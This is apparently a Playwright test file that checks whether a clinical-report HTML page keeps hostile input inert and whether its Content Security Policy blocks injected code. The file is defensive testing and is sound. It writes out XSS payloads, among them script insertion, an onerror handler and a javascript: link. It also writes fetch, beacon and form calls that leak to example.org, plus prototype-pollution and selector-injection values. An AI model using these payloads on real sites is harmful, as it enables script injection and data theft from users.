"""Whatever words, names and codes say, a page shows them and does nothing else."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from itertools import chain, repeat
from typing import TYPE_CHECKING, Any

import pytest

import fhirkit
from browser.hostile import EVERY, SCRIPTS, shown
from browser.pages import html_of, subject_of
from browser.watch import Open, Watch
from fhirkit.facts.case import Case
from fhirkit.facts.jsonform import to_dict
from fhirkit.facts.model import (
    AdverseEventFact,
    ConditionFact,
    Fact,
    MedicationFact,
    ObservationFact,
    PatientFact,
    Quantity,
    ReportFact,
    Suspect,
    SymptomFact,
    Term,
    When,
)
from fhirkit.narrative.span import Span
from fhirkit.report.inputs import subject as subject_in
from fhirkit.report.page import page as page_of
from fhirkit.review.decisions import Changes, Decision, Decisions, Signature, Verdict

if TYPE_CHECKING:
    from collections.abc import Sequence

    from playwright.sync_api import Page

NARRATIVE = (
    "{0} A 52-year-old woman with multiple sclerosis {0} was admitted with fever. {0}\n"
    "She had got alemtuzumab 12 mg{0} for five days.\n\nHer mother had {0} lupus.\n"
    "Haemoglobin was 7.0 g/dl. She developed anaemia {0}probably due to alemtuzumab{0}"
)
PLAIN = NARRATIVE.replace("{0}", "")
AT = "2026-11-23T10:00:00+01:00"
# What no page consists of: it came out of somebody's words.
FOREIGN = """() => [...document.querySelectorAll(
    "iframe, frame, object, embed, img, base, form[action], math, foreignObject, xmp, plaintext,"
    + "link:not([rel=icon]), audio, video, source, portal, meta[http-equiv=refresh], template,"
    + "[srcdoc], [formaction], [ping], [target], [accesskey], [contenteditable]"
)].map(e => e.outerHTML.slice(0, 120))"""
HANDLERS = """() => [...document.querySelectorAll("*")].flatMap(
    e => e.getAttributeNames().filter(n => n.startsWith("on")).map(n => `${e.tagName} ${n}`))"""
ADDRESSES = """() => [...document.querySelectorAll("*")].flatMap(e =>
    ["href", "src", "xlink:href", "action", "data", "poster", "srcset", "cite", "background"]
    .filter(n => e.hasAttribute(n)).map(n => [e.tagName.toLowerCase(), n, e.getAttribute(n), e.rel]))"""
# Moves over, focuses and clicks what words may have become a part of.
POKE = """() => {
    for (const e of document.querySelectorAll("*")) {
        for (const name of ["mouseover", "focus", "toggle", "animationstart", "load", "error"])
            e.dispatchEvent(new Event(name));
    }
    for (const e of document.querySelectorAll("#text a, h1 *, h4 *, .words *")) e.click();
}"""
INJECTED = {
    "script": "document.body.append(Object.assign(document.createElement('script'),"
    " {text: 'hacked = 1'}))",
    "handler": "document.body.setAttribute('onclick', 'hacked = 1'); document.body.click()",
    "markup": "document.body.innerHTML += '<img src=x onerror=hacked=1>'",
    "eval": "setTimeout('hacked = 1')",
    "address": "{const a = document.createElement('a'); a.href = 'javascript:hacked=1';"
    " document.body.append(a); a.click()}",
    "image": "new Image().src = 'http://example.org/leak.png'",
    "fetch": "fetch('http://example.org/leak').catch(() => {})",
    "beacon": "navigator.sendBeacon('http://example.org/leak', 'x')",
    "socket": "try { new WebSocket('ws://example.org/') } catch {}",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {src: 'http://example.org/'}))",
    "sheet": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'stylesheet', href: 'http://example.org/s.css'}))",
    "style": "document.head.append(Object.assign(document.createElement('style'),"
    " {textContent: 'body{background:url(http://example.org/b)}'}))",
    "worker": "try { new Worker('data:,hacked=1') } catch {}",
    "form": "{const f = document.createElement('form'); f.action = 'http://example.org/';"
    " document.body.append(f); f.submit()}",
}


def is_harmless(page: Page) -> None:
    """Nothing ran, nothing but the page's own elements and addresses is there."""
    page.evaluate(POKE)
    page.wait_for_timeout(20)
    assert page.evaluate("typeof hacked") == "undefined"
    assert page.evaluate(FOREIGN) == []
    assert page.evaluate(HANDLERS) == []
    assert page.evaluate("document.querySelectorAll('script:not([type]), style').length") == 2
    for element, name, address, rel in page.evaluate(ADDRESSES):
        if element == "link":
            assert (name, address) == ("href", "data:,")
            continue
        assert name == "href", f"{element} {name}={address}"
        outside = re.fullmatch(r"https://(hl7\.org|terminology\.hl7\.org)/[\w./#-]*", address)
        assert address.startswith("#") or outside, f"{element} leads to {address}"
        assert not outside or "noreferrer" in rel


def printed(words: str) -> str:
    """What can be seen of words on paper."""
    return re.sub(r"[^!-~]", "", words)


def everything(words: Sequence[str]) -> Case:
    """A case in which names, amounts, times and reasons of facts of every kind are these words."""
    template = "A woman of {}. She took {} ({}) {} and had {}, {} of {}; {}. A scan: {}. {} {} {}"
    text, *after = template.split("{}")
    said: list[Span] = []
    for word, rest in zip(chain(words, repeat("fever")), after, strict=False):
        said.append(Span(len(text), len(text) + len(word), word))
        text += word + rest
    return Case(text, tuple(sorted(facts_of(said), key=lambda fact: fact.spans[0].start)))


def facts_of(said: Sequence[Span]) -> list[Fact]:
    """One fact of most kinds, about these words."""
    term = [Term(span) for span in said]
    woman = Span(2, 7, "woman")
    why = f"because: {said[9].text}"
    return [
        PatientFact(
            id="patient", spans=(woman,), sex=Term(woman, "female"), occupation=term[0], why=why
        ),
        MedicationFact(
            id="medication-x",
            spans=(said[1],),
            drug=term[1],
            dose=Quantity(said[2], "12", said[2].text),
            when=When(said[3]),
            rule=said[10].text,
            why=why,
        ),
        ConditionFact(id="condition-x", spans=(said[4],), name=term[4], stage=said[9]),
        ObservationFact(
            id="observation-x",
            spans=(said[5],),
            analyte=term[5],
            category="laboratory",
            value=Quantity(said[6], "7", said[6].text),
        ),
        SymptomFact(id="symptom-x", spans=(said[7],), name=term[7], body_site=term[10]),
        AdverseEventFact(
            id="adverse-event-x",
            spans=(said[4],),
            reaction=term[4],
            condition="condition-x",
            suspects=(Suspect(said[1], "medication-x"),),
            causality=(said[11],),
            latency=When(said[9]),
        ),
        ReportFact(
            id="report-x",
            spans=(said[8],),
            study=term[8],
            category="imaging",
            conclusion=(said[10],),
        ),
    ]


def retold(value: Any, words: str) -> Any:
    """Every free text, code and id of a bundle with hostile words at its end."""
    told = {"display", "text", "code", "title", "unit", "valueString", "description", "id", "div"}
    if isinstance(value, dict):
        return {
            key: f"{item}{words}" if key in told and isinstance(item, str) else retold(item, words)
            for key, item in value.items()
        }
    if isinstance(value, list):
        return [retold(item, words) for item in value]
    return value


def batches(size: int) -> list[Any]:
    """All hostile words, some at a time."""
    names = list(EVERY)
    return [
        pytest.param(
            [EVERY[name] for name in names[n : n + size]], id="+".join(names[n : n + size])
        )
        for n in range(0, len(names), size)
    ]


@pytest.mark.parametrize("words", batches(9))
def test_words_of_a_narrative_stay_text(open_html: Open, words: list[str]) -> None:
    """A narrative full of markup is shown character by character, and nothing of it happens."""
    for word in words:
        text = NARRATIVE.replace("{0}", word)
        page = open_html(html_of(text))
        assert page.evaluate("document.querySelector('#text').textContent") == shown(text)
        is_harmless(page)


@pytest.mark.parametrize("words", batches(9))
def test_words_of_facts_stay_text(open_html: Open, words: list[str]) -> None:
    """Names, units, reasons and times that are markup are shown in the facts as they are."""
    case = everything(words)
    file = fhirkit.to_json(to_dict(case)).encode("utf-8", "surrogatepass")
    page = open_html(page_of(subject_in("facts.json", file, "facts.json")))
    assert page.evaluate("document.querySelector('#text').textContent") == shown(case.text)
    heading = page.locator("#f-medication-x h4").text_content() or ""
    assert printed(words[1]) in printed(heading)
    is_harmless(page)


def test_codes_and_names_of_a_bundle_stay_text(open_html: Open) -> None:
    """Displays, codes, ids and titles of a bundle that are markup are shown as they are."""
    bundle = subject_of(NARRATIVE.replace("{0}", SCRIPTS["script"])).bundle
    for words in ("".join(SCRIPTS.values()), *list(SCRIPTS.values())[:6]):
        file = fhirkit.to_json(retold(bundle, words)).encode()
        is_harmless(open_html(page_of(subject_in(words, file, "bundle.json"))))


@pytest.mark.parametrize("words", batches(9))
def test_words_of_decisions_stay_text(open_html: Open, words: list[str]) -> None:
    """Notes, names and corrections given with the decisions are data of the page and no more."""
    subject = subject_of(PLAIN)
    made = [
        decision_on(fact, f"{words[n % len(words)]}") for n, fact in enumerate(subject.case.facts)
    ]
    every = " ".join(words)
    decisions = Decisions(
        sha256="0" * 64,
        decisions=tuple(made),
        signed=Signature(by=every, at=AT),
        document=every,
    )
    page = open_html(page_of(replace(subject, decisions=decisions)))
    is_harmless(page)


def decision_on(fact: Fact, words: str) -> Decision:
    """A correction and a note of these words."""
    return Decision(
        fact=fact.id,
        kind="observation",
        spans=tuple((span.start, span.end) for span in fact.spans),
        verdict=Verdict.CORRECT,
        by=words,
        at=AT,
        seen="0123456789abcdef",
        changes=Changes(value="24", unit=words),
        note=words,
    )


def test_the_name_of_a_file_stays_text(open_html: Open) -> None:
    """A file may be called what it likes: its page tells the name as it is."""
    for words in ("".join(SCRIPTS.values()), SCRIPTS["title-end"], SCRIPTS["double-quote"]):
        page = open_html(html_of("A woman had fever.", name=words))
        is_harmless(page)
        assert page.evaluate("document.documentElement.dataset.document") == words
        assert words in page.title()


def test_the_policy_stops_what_gets_in(open_html: Open, watch: Watch) -> None:
    """Were there a way to put a script, handler, frame or address into a page, it would do nothing."""
    watch.expect(
        "Content Security Policy|TrustedHTML|TrustedScript|violates|This document requires"
    )
    html = html_of(PLAIN)
    for name, code in INJECTED.items():
        page = open_html(html)
        before = len(watch.faults)
        page.evaluate(f"() => {{ try {{ {code} }} catch {{}} }}")
        page.wait_for_timeout(30)
        assert page.evaluate("typeof hacked") == "undefined", name
        assert len(watch.faults) > before, name
    assert [url for url in watch.asked if "example.org" in url] == watch.stopped


FILES: dict[str, Any] = {
    "number": 5,
    "null": None,
    "list": [],
    "no-decisions": {"decisions": 7},
    "null-decision": {"decisions": [None]},
    "time-is-a-number": {"decisions": [{"at": 5}]},
    "name-is-a-list": {"decisions": [{"by": ["x"]}]},
    "changes-is-text": {"decisions": [{"verdict": "correct", "changes": "abc"}]},
    "changes-of-objects": {"decisions": [{"verdict": "correct", "changes": {"value": {"a": 1}}}]},
    "unknown-changes": {"decisions": [{"verdict": "correct", "changes": {"constructor": "x"}}]},
    "no-changes": {"decisions": [{"verdict": "correct"}]},
    "note-is-an-object": {"decisions": [{"note": {"a": 1}}]},
    "verdict-of-objects": {"decisions": [{"verdict": "constructor"}]},
    "fact-is-a-selector": {"decisions": [{"verdict": "add", "fact": 'x"],*[y="'}]},
    "fact-is-proto": {"decisions": [{"fact": "__proto__"}]},
    "added-beyond-the-text": {"decisions": [{"verdict": "add", "spans": [[0, 10**9]]}]},
    "added-of-fractions": {"decisions": [{"verdict": "add", "spans": [[0.5, 3.5]]}]},
    "added-as-a-known-fact": {"decisions": [{"verdict": "add", "spans": [[0, 3]]}]},
    "signed-is-text": {"signed": "me", "decisions": []},
    "signed-is-empty": {"signed": {}, "decisions": []},
    "markup": {"decisions": [{"by": SCRIPTS["image"], "note": SCRIPTS["script"]}]},
    "markup-added": {
        "decisions": [
            {"verdict": "add", "fact": "added-symptom-0-3", "kind": SCRIPTS["script"]},
        ]
    },
}


@pytest.mark.parametrize("names", [list(FILES)[n : n + 6] for n in range(0, len(FILES), 6)])
def test_files_of_decisions_do_no_harm(open_html: Open, names: list[str]) -> None:
    """A file of decisions that is loaded may hold anything: the page stays usable, also when opened again."""
    for name in names:
        # Another text each: what a browser keeps, it keeps for one text.
        text = f"{PLAIN}\n{name}"
        page = open_html(html_of(text))
        file = {
            "name": "x.json",
            "mimeType": "application/json",
            "buffer": json.dumps(file_of(page, FILES[name])).encode(),
        }
        page.locator("#review input[type=file]").set_input_files(file)  # type: ignore[arg-type]
        page.wait_for_timeout(30)
        is_harmless(page)
        page.reload()
        assert page.evaluate("document.querySelector('#text').textContent") == text
        card = page.locator("article.fact[data-seen]").nth(1)
        assert card.get_by_role("button").count() >= 2, name
        is_harmless(page)


def file_of(page: Page, given: Any) -> Any:
    """A file of decisions on this page that is right but for what is given."""
    if not isinstance(given, dict):
        return given
    card = page.locator("article.fact[data-seen]").first
    usual = {
        "fact": (card.get_attribute("id") or "")[2:],
        "kind": "symptom",
        "spans": [[0, 3]],
        "seen": card.get_attribute("data-seen"),
        "verdict": "accept",
        "by": "A. Reviewer",
        "at": AT,
    }
    digest = page.evaluate("document.documentElement.dataset.sha256")
    data = {"format": "fhirkit-decisions/1", "sha256": digest} | given
    if isinstance(data["decisions"], list):
        data["decisions"] = [one and {**usual, **one} for one in data["decisions"]]
    return data
